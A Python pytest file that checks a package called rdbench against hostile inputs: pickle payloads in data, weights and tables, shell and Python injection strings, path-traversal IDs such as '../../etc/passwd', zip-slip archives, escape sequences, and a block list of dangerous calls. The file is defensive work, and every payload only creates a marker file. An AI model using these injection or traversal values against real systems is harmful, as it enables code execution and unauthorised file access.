"""Files from strangers: none runs code, leads out of its folder, or ends in a traceback."""

import ast
import io
import json
import os
import pickle
import shutil
import time
import zipfile
from pathlib import Path
from tempfile import TemporaryDirectory
from unittest.mock import Mock

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import torch
from hypothesis import given, settings
from hypothesis import strategies as st
from rich.console import Console
from safetensors.numpy import save as save_weights

import rdbench
from rdbench.analysis.plots import Look, draw
from rdbench.analysis.plots.others import paper_points
from rdbench.analysis.report import FORMATS, assemble
from rdbench.config.run_config import RunConfig, make_run
from rdbench.config.sweep import load_sweep
from rdbench.data import load
from rdbench.data.dataset import pack
from rdbench.data.files import cache_folder
from rdbench.data.images import Images
from rdbench.data.packed import load_packed
from rdbench.errors import UserError
from rdbench.execute.display import Display
from rdbench.execute.finished_elsewhere import FinishedElsewhere
from rdbench.measures.exact import optimal
from rdbench.models import make_model
from rdbench.runs.checkpoint import Checkpoint
from rdbench.runs.device import peak_memory
from rdbench.runs.host import StoppedError
from rdbench.runs.state import State, UnreadableStateError, _digest
from rdbench.runs.trained import load_model
from rdbench.runs.training import Epoch, Training
from rdbench.store import parquet
from rdbench.store.changes import compact
from rdbench.store.claims import Claims, owners
from rdbench.store.plans import announce, missing
from rdbench.store.store import Store

SHA256 = "d" * 64
EVIL_IDS = ["../../evil", "/tmp/evil", "a\nb", "a/b", "..", "", "a" * 65]
ESCAPE, CSI = "\x1b[31m", "\x9b31m"
SMALL = {"width": 0.05, "latent_dim": 4, "pseudo_inputs": 3, "iwae": [1]}


@pytest.fixture
def store(tmp_path):
    store = Store(tmp_path / "store")
    store.prepare()
    return store


@pytest.fixture
def bomb(tmp_path):
    """A pickle that makes a file when it is loaded, and that file."""
    marker = tmp_path / "pickle-was-loaded"

    class Bomb:
        def __reduce__(self):
            return Path.touch, (marker,)

    content = pickle.dumps(Bomb())
    pickle.loads(content)
    assert marker.exists()
    marker.unlink()
    return content, marker, Bomb


def row(**values):
    """The row of an honest run; what is no setting of a run replaces a column."""
    columns = {key: values.pop(key) for key in list(values) if key not in RunConfig.model_fields}
    sha256 = columns.get("dataset_sha256", SHA256)
    run = make_run({"iwae": [1, 5], "epochs": 20, **values})
    measured = {"rate": 5.0, "distortion": 80.0, "elbo": -85.0, "iwae_1": -85.0, "iwae_5": -84.0}
    return {
        **run.columns(), "precision": "float32", "run_id": run.run_id(sha256), "status": "ok", "error": None,
        "config": run.model_dump_json(), "dataset_sha256": sha256, "test_images": 20, "train_seconds": 3.0,
        "sweep": "demo", "command": "rdbench sweep demo", "created_at": "2026-01-01T00:00:00",
        **measured, **{f"{name}_se": 0.1 for name in measured}, **columns,
    }  # fmt: skip


def put(store, columns, name=None, table="runs"):
    """Write one row as a table of its own, in whatever types it has."""
    path = Path(str(store)) / table / f"{name or columns['run_id']}.parquet"
    pq.write_table(pa.table({key: [value] for key, value in columns.items()}), path)


def one_line(error):
    """What a UserError says, held to be one line that a terminal can show."""
    assert isinstance(error.value, UserError)
    assert str(error.value).isprintable(), str(error.value)
    return str(error.value)


def refused(store):
    """The one line that a report has for the one thing in a store that is none of ours, beside an honest run."""
    report = assemble(store, [], [], None, None)
    assert list(report.runs["run_id"]) == [row()["run_id"]]
    (line,) = report.skipped
    assert line.isprintable()
    assert FORMATS["table"](report) and FORMATS["json"](report)
    return line


# Code


def test_nothing_in_the_package_unpickles_or_evaluates():
    for path in Path(rdbench.__file__).parent.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text())):
            names = [alias.name.split(".")[0] for alias in node.names] if isinstance(node, ast.Import) else []
            names += [(node.module or "").split(".")[0]] if isinstance(node, ast.ImportFrom) else []
            assert not {"pickle", "marshal", "shelve", "dill", "joblib"} & set(names), path
            if isinstance(node, ast.Call):
                called = ast.unparse(node.func)
                assert called not in ("eval", "exec", "compile", "__import__", "torch.load", "os.system"), path
                assert not called.endswith((".read_pickle", ".eval_expr", ".query")), path
                given = {keyword.arg: ast.unparse(keyword.value) for keyword in node.keywords}
                assert "True" not in (given.get("allow_pickle"), given.get("shell")), path


@pytest.mark.parametrize("name", ["objects.npy", "objects.npz", "bare.npy", "bare.npz"])
def test_a_pickle_in_a_dataset_is_not_loaded(tmp_path, bomb, name):
    content, marker, kind = bomb
    objects = np.array([kind()] * 20, dtype=object)
    path = tmp_path / name
    if name.startswith("bare"):
        path.write_bytes(content)
    elif name.endswith("npy"):
        np.save(path, objects, allow_pickle=True)
    else:
        np.savez(path, train=objects, valid=objects, test=objects)
    with pytest.raises(UserError, match="cannot be read as NumPy data") as error:
        load(str(path))
    assert one_line(error) and not marker.exists()


def test_a_pickle_in_the_cache_is_not_loaded(bomb):
    _, marker, kind = bomb
    path = cache_folder() / "packed" / "mnist.npz"
    path.parent.mkdir(parents=True, exist_ok=True)
    objects = np.array([kind()], dtype=object)
    np.savez(path, train=objects, valid=objects, test=objects, sha256=objects)
    assert load_packed("mnist") is None and not marker.exists()
    path.unlink()


def test_a_pickle_for_weights_or_a_state_is_not_loaded(store, bomb, tmp_path):
    content, marker, kind = bomb
    torch.save({"weight": kind()}, tmp_path / "weights.pt")
    for found in (content, (tmp_path / "weights.pt").read_bytes()):
        store.storage.write(store.checkpoint("a"), found)
        with pytest.raises(UserError, match="cannot read the checkpoint") as error:
            store.load_weights("a")
        assert one_line(error)
        checkpoint = Checkpoint(store.storage, "a")
        store.storage.write(checkpoint.names[0], found)
        states, (line,), _ = checkpoint.states()
        assert not states and "not a state of this run" in line
    assert not marker.exists()


@pytest.mark.parametrize("folder", ["runs", "history", "examples", "plans", "claims"])
def test_a_pickle_for_any_other_file_of_a_store_is_not_loaded(store, bomb, folder, rdbench_command):
    content, marker, _ = bomb
    put(store, row())
    suffix = "json" if folder in ("plans", "claims") else "parquet"
    store.storage.write(f"{folder}/{row()['run_id']}-x.{suffix}", content)
    assert rdbench_command("report", store)[0] == (3 if folder in ("runs", "plans") else 0)
    assert owners(store.storage) == {}
    assert not marker.exists()


def test_a_pickled_extension_type_in_a_table_is_not_loaded(store, bomb):
    content, marker, _ = bomb
    metadata = {"ARROW:extension:name": "arrow.py_extension_type", "ARROW:extension:metadata": content}
    columns = row() | {"extra": 1.0}
    fields = [pa.field(name, pa.array([value]).type) for name, value in columns.items()]
    fields[-1] = fields[-1].with_metadata(metadata)
    table = pa.table({name: [value] for name, value in columns.items()}, schema=pa.schema(fields))
    pq.write_table(table, Path(str(store)) / "runs" / "x.parquet")
    assert len(store.read("runs").frame) == 1
    assert not marker.exists()


@pytest.mark.parametrize(
    "condition",
    [
        "__import__('os').system('touch {marker}')",
        "rate < __import__('os').system('touch${{IFS}}{marker}')",
        "rate.__class__ == 1",
        "@pd.io.common.os.system('touch {marker}')",
        "rate < (lambda:open('{marker}','w'))()",
        "rate < 1; import os",
        "`rate` < 1",
        "family == __import__('os')",
        "error == $(touch {marker})",
        "rate < 1 and",
        "rate_by_dimension == [1]",
        "rate < 1e999 and \x1b[31m == 1",
        "",
    ],
)
def test_a_condition_is_never_python(store, tmp_path, condition, rdbench_command):
    put(store, row())
    marker = tmp_path / "marker"
    code, _, told = rdbench_command("report", store, "--where", condition.format(marker=marker) or " ")
    assert code == 2 and told.startswith("rdbench: ") and told[:-1].isprintable()
    assert not marker.exists()
    assert rdbench_command("report", store, "--where", "rate < 6")[0] == 0


# Datasets


def npy(header, body=b""):
    return b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header.encode("latin1") + body


def zipped(name, content, at=None, value=0):
    """A zip of one file; both its headers say ``value`` at an offset."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr(name, content)
    found = bytearray(file.getvalue())
    if at is not None:
        found[at] = value
        found[found.find(b"PK\x01\x02") + at + 2] = value
    return bytes(found)


def header(kind, shape):
    return f"{{'descr': '{kind}', 'fortran_order': False, 'shape': {shape}, }}\n"


ONES = npy(header("|u1", "(20, 28, 28)"), b"\1" * 20 * 28 * 28)
DATASETS = {
    "code.npy": npy("__import__('os').system('true')"),
    "petabytes.npy": npy(header("<f8", "(1000000000000, 28, 28)")),
    "petabytes.npz": zipped("a.npy", npy(header("<f8", "(1000000000000, 28, 28)"))),
    "more-than-a-long.npy": npy(header("<f8", f"(1{'0' * 3000}, 28, 28)")),
    "digits-without-end.npy": npy(header("<f8", f"(1{'0' * 5000}, 28, 28)")),
    "brackets.npy": npy("(" * 5000),
    "signs.npy": npy("-" * 9000),
    "half-a-string.npy": npy("'''"),
    "a-zip.npy": zipped("a.npy", ONES),
    "an-array.npz": ONES,
    "text.npz": zipped("a.txt", b"x"),
    "encrypted.npz": zipped("a.npy", ONES, at=6, value=1),
    "unknown-compression.npz": zipped("a.npy", ONES, at=8, value=99),
    "wrong-compression.npz": zipped("a.npy", ONES, at=8, value=8),
    "empty.npy": b"",
}


@pytest.mark.parametrize("name", DATASETS)
def test_an_absurd_dataset_is_refused_in_one_line(tmp_path, name):
    path = tmp_path / name
    path.write_bytes(DATASETS[name])
    with pytest.raises(UserError) as error:
        load(str(path))
    assert name in one_line(error) and len(one_line(error)) < 500


def test_a_dataset_leads_to_no_other_place(tmp_path):
    path = tmp_path / "inner" / "slip.npz"
    path.parent.mkdir()
    path.write_bytes(zipped("../../evil.npy", ONES))
    assert load(str(path)).sizes == (16, 2, 2)
    assert sorted(found.name for found in tmp_path.rglob("*")) == ["inner", "slip.npz"]


def test_names_of_arrays_are_shown_plainly(tmp_path, rdbench_command):
    path = tmp_path / "names.npz"
    with zipfile.ZipFile(path, "w") as archive:
        for name in (f"{ESCAPE}.npy", "two\nlines.npy"):
            archive.writestr(name, ONES)
    code, _, told = rdbench_command("sweep", "--set", f"dataset={path}", "--dry-run")
    assert code == 2 and told[:-1].isprintable() and "\\x1b[31m, two\\nlines" in told


# Weights and states


def tensors(entries, body=b"", size=None):
    """A safetensors file of any header and size of it."""
    content = entries if isinstance(entries, bytes) else json.dumps(entries).encode()
    return (len(content) if size is None else size).to_bytes(8, "little") + content + body


def entry(kind, shape, *offsets):
    return {"dtype": kind, "shape": shape, "data_offsets": offsets}


ABSURD = {
    "nothing": b"",
    "a header without end": tensors(b"{}", size=2**63),
    "a header longer than the file": tensors(b"{}", size=1000),
    "no JSON": tensors(b"{'a'"),
    "deep JSON": tensors(b'{"__metadata__":' + b'{"a":' * 100_000),
    "overlapping tensors": tensors({"a": entry("U8", [4], 0, 4), "b": entry("U8", [4], 2, 6)}, b"0" * 6),
    "a tensor beyond the file": tensors({"a": entry("U8", [4], 0, 4)}),
    "a tensor of another size": tensors({"a": entry("F32", [4], 0, 4)}, b"0000"),
    "more bytes than there are": tensors({"a": entry("F32", [2**62, 2**62], 0, 4)}, b"0000"),
    "a number that is none": tensors(b'{"a":{"dtype":"U8","shape":[1e400],"data_offsets":[0,1]}}', b"0"),
    "a negative shape": tensors(b'{"a":{"dtype":"U8","shape":[-1],"data_offsets":[0,1]}}', b"0"),
    "half bytes": tensors({"a": entry("F4", [2], 0, 1)}, b"0"),
}
NOT_WEIGHTS = ABSURD | {
    "a kind that NumPy lacks": tensors({"a": entry("BF16", [1], 0, 2)}, b"00"),
    "nothing, very wide": tensors({"a": entry("F32", [2**62, 0], 0, 0)}),
    "a hundred dimensions": tensors({"a": entry("F32", [1] * 100, 0, 4)}, b"0000"),
}


@pytest.mark.parametrize("content", NOT_WEIGHTS.values(), ids=NOT_WEIGHTS)
def test_absurd_weights_are_refused_in_one_line(store, content):
    store.storage.write(store.checkpoint("a"), content)
    with pytest.raises(UserError, match=r"cannot read the checkpoint .*a\.safetensors") as error:
        store.load_weights("a")
    assert one_line(error)


@pytest.mark.parametrize(
    ("values", "change"),
    [
        ({}, lambda weights: {}),
        ({}, lambda weights: {name: value[:0] for name, value in weights.items()}),
        ({}, lambda weights: {name: value * np.float32(np.nan) for name, value in weights.items()}),
        ({}, lambda weights: {name: value.astype(np.int32) for name, value in weights.items()}),
        ({}, lambda weights: weights | {"../../evil": np.zeros(1, np.float32)}),
        ({"latent_dim": 10**12}, dict),  # of which a model does not fit into any memory
        ({"pseudo_inputs": 2**62, "marginal": "vamp"}, dict),
        ({"dataset": "toy", "encoder": "discrete", "decoder": "discrete", "marginal": "discrete"}, dict),
    ],
)
def test_weights_that_do_not_fit_their_description_are_refused_before_a_model_is_made(store, values, change):
    honest = row(**SMALL)
    torch.manual_seed(0)
    weights = {name: value.numpy() for name, value in make_model(make_run(SMALL)).state_dict().items()}
    store.storage.write(store.checkpoint(honest["run_id"]), save_weights(weights))
    assert load_model(store, honest)
    hostile = row(**SMALL | values)
    store.storage.write(store.checkpoint(hostile["run_id"]), save_weights(change(weights)))
    with pytest.raises(UserError, match=r"does not hold this run's weights|describes no model") as error:
        load_model(store, hostile)
    assert one_line(error)


def test_no_memory_is_taken_for_a_model_that_its_weights_do_not_fit(store):
    hostile = row(**SMALL | {"marginal": "vamp", "pseudo_inputs": 300_000})  # a gigabyte
    store.storage.write(store.checkpoint(hostile["run_id"]), save_weights({"weight": np.zeros(1, np.float32)}))
    before = peak_memory(torch.device("cpu"))
    with pytest.raises(UserError, match="does not hold this run's weights"):
        load_model(store, hostile)
    assert peak_memory(torch.device("cpu")) - before < 2**28


@pytest.mark.parametrize("config", [None, "", "[]", "nonsense", "[" * 100_000, '{"latent_dim": 1e400}', '{"x": 1}'])
def test_a_config_that_describes_no_run_makes_no_model(store, config):
    store.storage.write(store.checkpoint("a"), save_weights({}))
    with pytest.raises(UserError) as error:
        load_model(store, {"run_id": "a", "config": config})
    assert one_line(error)


def test_weights_so_large_that_probabilities_are_none_are_told_of(store, rdbench_command, tmp_path):
    images = np.random.default_rng(0).random((20, 28, 28)) < 0.2
    np.save(tmp_path / "mine.npy", images)
    dataset = load(str(tmp_path / "mine.npy"))
    hostile = row(**SMALL, dataset=str(tmp_path / "mine.npy")) | {"dataset_sha256": dataset.sha256}
    put(store, hostile)
    weights = {name: value.numpy() for name, value in make_model(make_run(SMALL)).state_dict().items()}
    huge = {name: np.full_like(value, 3e38) for name, value in weights.items()}
    store.storage.write(store.checkpoint(hostile["run_id"]), save_weights(huge))
    code, _, told = rdbench_command("plot", store, "--kind", "samples", "--out", tmp_path / "out")
    assert code == 2 and "draws no images" in told
    put(store, hostile | {"dataset_sha256": SHA256})
    store.storage.write(store.checkpoint(hostile["run_id"]), save_weights(weights))
    code, _, told = rdbench_command("plot", store, "--kind", "samples", "--out", tmp_path / "out")
    assert code == 2 and "is not the one that run" in told  # no images but those it says it was trained on


@pytest.mark.parametrize("content", ABSURD.values(), ids=ABSURD)
def test_an_absurd_state_is_refused(content):
    with pytest.raises(UnreadableStateError) as error:
        State.from_bytes(content)
    assert str(error.value).isprintable()


def state(facts, checksum=True):
    """A file whose facts are the given text, with the checksum that belongs to it."""
    whole = State({"a": torch.zeros(2)}, {}).to_bytes()
    metadata = {"facts": facts, "sha256": _digest({"a": torch.zeros(2)}, facts) if checksum else "0"}
    entries = json.loads(whole[8 : 8 + int.from_bytes(whole[:8], "little")]) | {"__metadata__": metadata}
    return tensors(entries, bytes(8))


@pytest.mark.parametrize(
    "facts",
    ["", "null", "[]", "3", "[" * 100_000, '{"a": ' * 100_000, "9" * 5000, '{"run_id": "a"}', '{"serial": 1}']
    + [f'{{"run_id": "a", "serial": {serial}}}' for serial in ("1e400", "NaN", "-1", '"1"', "[1]", "1.5", "null")]
    + ['{"run_id": ["a"], "serial": 1}', '{"run_id": "\\u001b[31m", "serial": 1}'],
)
def test_a_state_of_absurd_facts_is_named_and_passed_over(store, facts):
    checkpoint = Checkpoint(store.storage, "a")
    store.storage.write(checkpoint.names[0], state(facts))
    store.storage.write(checkpoint.names[1], state('{"run_id": "a", "serial": 7}'))
    (found,), _, (line,) = checkpoint.states()
    assert found.facts["serial"] == 7 and checkpoint.serial == 8
    assert "not a state of this run" in line and line.isprintable()


def test_a_state_without_its_checksum_is_refused():
    with pytest.raises(UnreadableStateError, match="does not match its checksum"):
        State.from_bytes(state("{}", checksum=False))


def first(state, name):
    return next(key for key in state.tensors if key.startswith("optimizer.") and key.endswith(name))


@pytest.mark.parametrize(
    "change",
    [
        *(lambda state, step=step: {"step": step} for step in ("1", -3, 7, 10**30, 1e400, None, True, [1])),
        *(lambda state, parts=parts: {"micro_batch": parts} for parts in ("8", 0, -1, 10**30, None)),
        *(lambda state, seconds=seconds: {"seconds": seconds} for seconds in ("1", None, [1])),
        *(lambda state, history=history: {"history": history} for history in ("x", {"a": 1}, [{"epoch": 1}], [3])),
        lambda state: {"history": [dict.fromkeys(Epoch.__dataclass_fields__, "x")]},
        *(lambda state, name=name: {first(state, name): torch.zeros(1)} for name in ("exp_avg", "exp_avg_sq")),
        lambda state: {first(state, "step"): torch.zeros(3)},
        lambda state: {"optimizer.999.step": torch.zeros(())},
        lambda state: {"optimizer.evil.step": torch.zeros(())},
        lambda state: {"totals.sums": torch.zeros(7)},
        lambda state: {"random": torch.zeros(5, dtype=torch.uint8)},
        lambda state: {"order": torch.full((24,), 10**6)},
        lambda state: {"order": torch.full((24,), -(10**6))},
        lambda state: {"order": torch.zeros(3, dtype=torch.int64)},
        lambda state: {"order": torch.rand(24)},
        lambda state: {"order": torch.arange(24.0)},
        lambda state: {"history": [dict.fromkeys(Epoch.__dataclass_fields__, 1)]},
    ],
)
def test_a_training_does_not_go_on_from_a_state_that_is_none(change):
    run = make_run(SMALL | {"epochs": 2, "batch_size": 8})
    images = Images.on(torch.device("cpu"), pack(np.random.default_rng(0).random((24, 28, 28)) < 0.2))

    def training():
        return Training(make_model(run), images, images, run)

    begun = training()
    with pytest.raises(StoppedError):
        begun.run(after_step=Mock(side_effect=StoppedError))
    state = begun.state()
    training().restore(state)
    wrong = change(state)
    tensors = {name: value for name, value in wrong.items() if isinstance(value, torch.Tensor)}
    facts = {name: value for name, value in wrong.items() if name not in tensors}
    with pytest.raises((AttributeError, KeyError, RuntimeError, TypeError, ValueError)):  # which a run tells as damage
        training().restore(State({**state.tensors, **tensors}, {**state.facts, **facts}))


# Names


@pytest.mark.parametrize("run_id", [*EVIL_IDS, None])
def test_a_run_id_that_is_a_path_is_refused_with_its_file(store, run_id, rdbench_command, tmp_path):
    put(store, row())
    put(store, row() | {"run_id": run_id}, "x")
    line = refused(store)
    assert "x.parquet" in line and "is no run_id" in line
    for table in ("history", "examples"):
        put(store, {"run_id": run_id, "epoch": 1, "index": 1}, "x", table)
        with pytest.raises(UserError, match=r"is no run_id|holds no"):
            store.read(table)
    before = sorted(tmp_path.rglob("*"))
    assert rdbench_command("report", store)[0] == 3
    assert rdbench_command("report", store, "--check", "--baseline", store)[0] == 3
    assert rdbench_command("plot", store, "--kind", "plane", "--kind", "history", "--out", tmp_path / "out")[0] == 2
    assert sorted(path for path in tmp_path.rglob("*") if "out" not in path.parts) == before
    compact(store)
    assert (Path(str(store)) / "runs" / "x.parquet").exists()


@pytest.mark.parametrize("run_id", EVIL_IDS)
def test_no_weights_are_read_by_a_run_id_that_is_a_path(store, run_id):
    put(store, row())
    outside = Path(str(store)).parent / "evil.safetensors"
    outside.write_bytes(save_weights({"weight": np.zeros(1, np.float32)}))
    with pytest.raises(UserError, match="is no run_id") as error:
        load_model(store, row() | {"run_id": run_id})
    assert one_line(error)


@pytest.mark.parametrize("sha256", ["/../../evil", "d" * 63, "D" * 64, "../" * 30, None])
def test_a_checksum_that_is_a_path_names_no_figure(store, sha256, rdbench_command, tmp_path):
    put(store, row())
    put(store, row(seed=1) | {"dataset_sha256": sha256})
    assert "expected 64 hexadecimal digits" in refused(store)
    code, _, _ = rdbench_command("plot", store, "--kind", "plane", "--out", tmp_path / "deep" / "out")
    assert code == 3
    assert sorted(path.name for path in (tmp_path / "deep").rglob("*.*")) == ["plane.png", "plane.svg"]
    assert not list(tmp_path.glob("*evil*"))


@pytest.mark.parametrize(
    "dataset", ["../../evil/.npy", f"{ESCAPE}\n.npy", "a\\b.npy", "$\\frac{$.npy", "$$", "x" * 300]
)
def test_the_name_of_a_dataset_is_plain_in_the_name_and_the_text_of_a_figure(store, dataset, tmp_path):
    for sha256 in ("d" * 64, "e" * 64):
        put(store, row(dataset=dataset, dataset_sha256=sha256))
    runs = store.read("runs").frame
    paths, left_out, _ = draw(store, runs, ["plane", "skew", "phase"], ["svg"], tmp_path / "out")
    assert len(paths) == len(set(paths)) == 6 and not left_out
    for path in paths:
        assert path.parent == tmp_path / "out" and path.name.isprintable()
        assert "\x1b" not in path.read_text()


def test_why_a_figure_is_left_out_is_told_plainly(store, rdbench_command, tmp_path):
    put(store, row(dataset=f"{ESCAPE}\n"))
    code, _, told = rdbench_command("plot", store, "--kind", "toy", "--out", tmp_path / "out")
    assert code == 2 and told == "toy left out: it is no figure of \\x1b[31m\\n\n"


def test_names_of_files_in_a_store_are_shown_plainly(store, rdbench_command):
    put(store, row())
    folder = Path(str(store)) / "runs"
    (folder / f"{ESCAPE}\n.parquet").write_text("")
    (folder / "folder.parquet").mkdir()
    line = refused(store)
    assert "\\x1b[31m\\n.parquet" in line
    _, out, _ = rdbench_command("report", store)
    _, _, told = rdbench_command("plot", store, "--kind", "plane", "--out", folder.parent / "figures")
    assert ESCAPE not in out + told


@pytest.mark.parametrize("name", ["...toml", "..toml", "....toml"])
def test_the_name_of_a_sweep_keeps_its_store_under_outputs(tmp_path, name, rdbench_command, monkeypatch):
    monkeypatch.chdir(tmp_path)
    Path(name).write_text("beta = 1")
    code, _, told = rdbench_command("sweep", name, "--dry-run")
    assert code == 2 and "found a name of dots only" in told
    (tmp_path / "inner").mkdir()
    Path("inner/mine.toml").write_text("beta = 1")
    assert load_sweep("inner/../inner/mine.toml").name == "mine"


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("beta = " + "[" * 100_000, "not valid TOML"),
        ("beta = " + "{a=" * 300 + "1" + "}" * 300, "beta: found"),
        (".".join("a" * 900) + " = 1", "unknown key 'a'"),
        ("epochs = " + "9" * 5000, "not valid TOML"),
        ("epochs = " + "9" * 4000, "epochs: found"),
        ("epochs = 0x" + "F" * 5000, "not valid TOML"),
        ("latent_dim = 9223372036854775808", "latent_dim: found"),
        ("seed = 9223372036854775808", "seed: found"),
        ("beta = 1" + "0" * 400, "beta: found"),
        ("iwae = [[1]]", "iwae: found"),
        ("iwae = [1, 'a']", "iwae: found"),
        ("iwae = {a = 1}", "iwae: found"),
        ("width = 1979-05-27", "width: found"),
        ("name = '../../evil'", "unknown key 'name'"),
        ("store = '/tmp/evil'", "unknown key 'store'"),
        ('"\\u001b[31m" = 1', "unknown key '\\x1b[31m'"),
        ('dataset = "\\u001b[31m"', "unknown dataset '\\x1b[31m'"),
        ('dataset = "\\u0000.npy"', "cannot be read as NumPy data"),
        ("dataset = '../../etc/passwd'", "unknown dataset"),
        ("family = [['all']]", "family: found"),
        ("objective = [[1]]", "objective: found"),
        ("\x00", "not valid TOML"),
        (".".join("a" * 50_000) + " = 1", "found 49,999 dots; expected at most 5,000"),
        ("#" * 2**20 + "#", "found 1,048,577 bytes; expected at most 1,048,576"),
    ],
)
def test_a_hostile_sweep_file_is_refused_in_one_line(tmp_path, text, told, rdbench_command, monkeypatch):
    monkeypatch.chdir(tmp_path)
    Path("mine.toml").write_text(text)
    code, _, line = rdbench_command("sweep", "mine.toml", "--dry-run")
    assert code == 2 and told in line and line[:-1].isprintable()
    assert [path.name for path in tmp_path.iterdir()] == ["mine.toml"]


# Tables

LIST = [0.5] * 64


@pytest.mark.parametrize(
    ("changes", "told"),
    [
        ({"config": None}, "its config is not JSON"),
        ({"config": "{"}, "its config is not JSON"),
        ({"config": "[" * 100_000}, "its config is not JSON"),
        ({"config": '{"seed": ' + "9" * 5000 + "}"}, "its config is not JSON"),
        ({"config": "[1]"}, "valid dictionary"),
        ({"config": '{"evil": 1}'}, "epochs is 20 in its column and 200 in its config"),  # evil: a newer setting
        ({"config": '{"\\u001b[31m": 1}'}, "\\x1b[31m: not the setting of a part"),
        ({"config": '{"iwae": [[1]]}'}, "iwae: found"),
        ({"config": '{"iwae": {"a": 1}}'}, "iwae: found"),
        ({"config": '{"epochs": 1e400}'}, "epochs: found inf"),
        ({"config": '{"latent_dim": 9223372036854775808}'}, "latent_dim: found"),
        ({"config": '{"beta": NaN}'}, "beta: found nan"),
        ({"config": '{"seed": true, "width": "wide"}'}, "width: found"),
        ({"config": '{"objective": "evil"}'}, "objective is beta-vae in its column and evil in its config"),
        ({"family": "<script>"}, "family is <script> in its column"),
        ({"family": f"{ESCAPE}\n"}, "family is \\x1b[31m\\n in its column"),
        ({"objective": "evil"}, "objective is evil in its column"),
        ({"beta": 3.0}, "beta is 3.0 in its column"),
        ({"seed": 17}, "seed is 17 in its column"),
        ({"status": "<b>"}, "status: found"),
        ({"status": None}, "status: found"),
        ({"test_images": 0}, "test_images: found 0"),
        ({"test_images": -(2**63)}, "test_images: found"),
        ({"entropy": -1.0}, "entropy: found -1"),
        ({"entropy": np.inf}, "entropy: found inf"),
        ({"rate": 1e308}, "a number is beyond 1e+100"),
        ({"rate_se": -1.0}, "a standard error is below 0"),
        ({"rate_by_dimension": LIST[1:]}, "found 63 rates; expected 64"),
        ({"rate": "1; drop table"}, "column rate: found string"),
        ({"rate": [1.0]}, "column rate: found list"),
        ({"rate": {"a": 1}}, "column rate: found struct"),
        ({"seed": 1.5}, "column seed: found double"),
        ({"error": b"\xff\xfe"}, "column error: found binary"),
        ({"family": {"a": 1}}, "column family: found struct"),
        ({"rate_by_dimension": "[1]"}, "column rate_by_dimension: found string"),
    ],
)
def test_a_row_that_is_of_no_run_is_named_and_skipped(store, changes, told):
    put(store, row(rate_by_dimension=LIST, entropy=80.0))
    put(store, row(seed=1, rate_by_dimension=LIST, entropy=80.0) | changes, "x")
    assert told in refused(store)


def test_what_is_left_of_a_hostile_store_is_reported_and_drawn(store, rdbench_command, tmp_path):
    put(store, row(seed=1) | {"config": "{"})
    code, _, told = rdbench_command("report", store)
    assert code == 3 and "no runs can be read" in told and told[:-1].isprintable()
    put(store, row())
    code, out, _ = rdbench_command("report", store, "--baseline", store)
    assert code == 3 and "1 of 1 run measured" in out
    code, _, told = rdbench_command("plot", store, "--kind", "phase", "--format", "png", "--out", tmp_path)
    assert code == 3 and "its config is not JSON" in told


def test_a_whole_row_counts_beside_a_newer_one_that_is_none(store):
    put(store, row())
    put(store, row(created_at="2027-01-01T00:00:00") | {"config": "{"}, "x")
    assert "its config is not JSON" in refused(store)


@pytest.mark.parametrize("table", ["runs", "history", "examples"])
def test_a_table_of_odd_construction_is_skipped_or_read_as_numbers(store, table):
    honest = row()
    put(store, honest)
    folder = Path(str(store)) / table
    keys = {"runs": honest, "history": {"epoch": 1}, "examples": {"index": 1}}[table]
    columns = {**keys, "run_id": honest["run_id"]}
    twice = pa.table([[value] for value in (*columns.values(), 1.0, 2.0)], names=[*columns, "rate", "rate"])
    pq.write_table(twice, folder / "twice.parquet")
    text = pa.array([b"\xff\xfe"]).view(pa.string())  # bytes that are no UTF-8
    pq.write_table(pa.table({**{key: [value] for key, value in columns.items()}, "error": text}), folder / "u.parquet")
    rows = store.read(table) if table == "runs" else None
    skipped = rows.skipped if rows else parquet.load(store.storage, table, None, None)[1]
    assert ["twice.parquet" in line or "u.parquet" in line for line in skipped] == [True, True]


def test_what_a_stranger_notes_for_pandas_is_ignored(store):
    noted = {"index_columns": ["run_id"], "columns": [{"name": "rate", "numpy_type": "evil"}]}
    metadata = {"pandas": json.dumps(noted)}
    table = pa.table({key: [value] for key, value in row().items()}).replace_schema_metadata(metadata)
    pq.write_table(table, Path(str(store)) / "runs" / "x.parquet")
    assert list(store.read("runs").frame["run_id"]) == [row()["run_id"]]


@pytest.mark.parametrize(
    "column",
    ["note", "rate_paper", "seeds", "frontier", "label", "description", "_family", "annealed", "neg_elbo", "judgement",
     "family_se", "config_se", "status_se", "seed_se", "iwae_007", "iwae_0", "iwae_٣", "iwae_" + "9" * 5000, "iwae_9"],
)  # fmt: skip
def test_columns_with_names_that_a_report_uses_itself_change_nothing(store, column):
    for seed in (0, 1):
        put(store, row(seed=seed, epochs=200))
    before = assemble(store, [], [], None, store)
    for seed in (0, 1):
        put(store, row(seed=seed, epochs=200) | {column: 3.0})
    after = assemble(store, [], [], None, store)
    assert after.paper.equals(before.paper) and len(after.paper) == 2
    if not column.startswith("iwae_9"):
        assert FORMATS["table"](after) == FORMATS["table"](before)
    assert FORMATS["json"](after)


@pytest.mark.parametrize(
    "missing",
    ["family", "objective", "beta", "seed", "dataset", "anneal_epochs", "error", "elbo", "test_images", "rate_se",
     "iwae_1", "iwae_1_se", "created_at", "command"],
)  # fmt: skip
def test_a_table_without_a_column_is_reported_and_drawn(store, missing, tmp_path):
    others = {"status": "failed"}, {"encoder": "iaf"}, {"dataset": "omniglot", "dataset_sha256": "e" * 64}
    for values in ({}, *({"seed": 1} | other for other in others)):
        put(store, {key: value for key, value in row(entropy=80.0, **values).items() if key != missing})
    report = assemble(store, [], [], None, store)
    assert len(report.runs) == 4 and FORMATS["table"](report) and FORMATS["json"](report)
    if missing != "elbo":
        paths, *_ = draw(store, report.runs, ["plane"], ["png"], tmp_path / "out", Look(others=paper_points()))
        assert len(paths) == 2


@pytest.mark.parametrize(
    "examples",
    [
        {"index": [0, 1]},
        {"index": [0, 1], "rate": [1.0, np.nan], "distortion": [1.0, 1.0]},
        {"index": [0, 1], "rate": [1.0, np.inf], "distortion": [1.0, 1.0]},
        {"index": [0], "rate": [1.0], "distortion": [1.0]},
        {"index": [0, None, 2], "rate": [1.0] * 3, "distortion": [1.0] * 3},
    ],
)
def test_images_that_are_none_are_compared_with_nothing(store, examples):
    whole = {"index": [0, 1], "rate": [1.0, 2.0], "distortion": [1.0, 1.0]}
    others = whole if "rate" in examples else examples
